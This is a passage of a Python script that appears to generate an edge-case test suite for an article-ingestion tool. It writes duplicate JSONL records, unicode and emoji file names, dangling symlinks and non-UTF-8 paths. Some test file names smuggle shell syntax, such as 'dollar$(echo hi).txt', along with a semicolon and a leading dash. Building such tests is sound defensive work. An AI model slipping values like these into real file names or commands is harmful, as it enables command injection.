    s.jsonl("suite/jsonl/duplicates.jsonl", [(json.dumps({"text": dup}), "stored", {"group": "dup"}),
                                              (json.dumps({"text": dup + "  "}), "stored", {"group": "dup"}),
                                              (json.dumps({"text": dup, "title": "other"}), "stored", {"group": "dup"})],
            "valid")
    s.write("suite/valid/dup.txt", dup, "valid", "stored", group="dup")


def odd_paths(s: Suite) -> None:
    for name in ("with space.txt", "ünïcödé.txt", "Пешавар.txt", "emoji_💣.txt", "UPPER.TXT", "semi;colon.html",
                 "quote'name.txt", "dollar$(echo hi).txt", "-leading-dash.txt"):
        s.write(f"suite/paths/{name}", s.article(), "odd paths", "stored")
    hidden = s.root / "suite/paths/.hidden.txt"  # skipped by design: not a case
    hidden.write_text(s.article())
    link = s.root / "suite/paths/dangling.txt"
    link.symlink_to(s.root / "suite/paths/no-such-target.txt")
    s.cases.append(Case("suite/paths/dangling.txt", "odd paths", "rejected"))
    (s.root / "suite/paths/folder.txt").mkdir()  # a folder with an article's extension
    (s.root / "suite/paths/folder.txt/inner.txt").write_text(s.article())
    s.cases.append(Case("suite/paths/folder.txt/inner.txt", "odd paths", "stored"))
    # a file name that is not valid UTF-8 (possible on Linux): the source is not a valid string
    raw_name = os.fsencode(str(s.root / "suite/paths")) + b"/latin1_\xe9t\xe9.txt"
    with open(raw_name, "wb") as f:
        f.write(s.article().encode())
    s.cases.append(Case(os.path.relpath(os.fsdecode(raw_name), s.root), "odd paths", "either",
                        note="undecodable file name"))
    s.write("explicit/missing-file.txt.gone", b"", "odd paths", "rejected", explicit=True)
    os.remove(s.root / "explicit/missing-file.txt.gone")  # a path that does not exist
    s.write("explicit/solo.meta.json", '{"title": "a sidecar passed as an article"}', "odd paths", "rejected",
            explicit=True)


def generate(root: Path, *, big: bool = True, seed: int = 0, valid: int = 150) -> list[Case]:
    """Write the suite under ``root`` (which must be empty or absent) and return its cases."""
    root.mkdir(parents=True, exist_ok=True)
    s = Suite(root, random.Random(seed), big=big)
    for part in (empty_and_whitespace, binary, encodings, invalid_utf8, line_endings_and_boms, big_part(big),
                 nested_html, scripts, html_entities, unicode_tricks, malformed_jsonl, wrong_types, huge_numbers,
                 dates, odd_paths):
        part(s)
    valid_bulk(s, valid)
    manifest = {
        "seed": seed,
        "cases": [asdict(c) for c in s.cases],
        "explicit_paths": sorted({c.path for c in s.cases if c.explicit}),
    }
    (root / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=True, indent=0))
    return s.cases


def big_part(enabled: bool):
    def run(s: Suite) -> None:
        s.big = enabled
        big(s)
    return run


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("out", type=Path, help="output folder (created; use a temporary or git-ignored one)")
    ap.add_argument("--no-big", action="store_true", help="leave out the 50 MB and 21 MB files")
    ap.add_argument("--seed", type=int, default=0)
    args = ap.parse_args(argv)
    cases = generate(args.out, big=not args.no_big, seed=args.seed)
    by: dict[str, int] = {}
    for c in cases:
        by[c.expect] = by.get(c.expect, 0) + 1
    print(f"{len(cases)} cases in {args.out}: " + ", ".join(f"{v} {k}" for k, v in sorted(by.items())))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
